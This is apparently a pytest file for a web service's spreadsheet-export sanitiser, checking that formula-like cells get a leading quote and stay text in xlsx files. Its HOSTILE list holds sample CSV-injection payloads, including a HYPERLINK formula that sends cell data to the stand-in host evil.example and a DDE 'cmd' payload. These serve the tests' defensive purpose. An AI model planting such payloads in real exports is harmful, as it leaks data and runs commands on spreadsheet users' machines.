"""The rule that keeps exported cells data (OWASP's CSV-injection guidance): pure, fast."""

from __future__ import annotations

import io

import openpyxl
import pytest

from service.web.cells import csv_cell, csv_row, strings_stay_strings

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"cliquez")',
    "=1+2",
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1+2",
    "\r=1+2",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_a_spreadsheet_would_evaluate_gets_a_leading_quote(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [0, 3, -2, -0.25, 1.5, True, None, "", "Accueil", "a=1", "'=1", "-2", "+33612345678", "-0.5"],
)
def test_numbers_and_harmless_text_are_unchanged(value: object) -> None:
    assert csv_cell(value) == value


def test_a_row_is_neutralised_cell_by_cell() -> None:
    assert csv_row(["=1+2", 4, None, "ok"]) == ["'=1+2", 4, None, "ok"]


def test_xlsx_text_beginning_with_equals_is_written_as_text() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    texts = HOSTILE[:5]  # (XML turns a carriage return into a line feed)
    sheet.append([*texts, 42, -1.5])
    assert sheet["B1"].data_type == "f"  # what openpyxl does on its own
    strings_stay_strings(sheet.iter_rows())
    out = io.BytesIO()
    book.save(out)
    read = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    assert read is not None
    cells = next(read.iter_rows())
    assert [c.value for c in cells] == [*texts, 42, -1.5]
    assert [c.data_type for c in cells] == ["s"] * len(texts) + ["n", "n"]
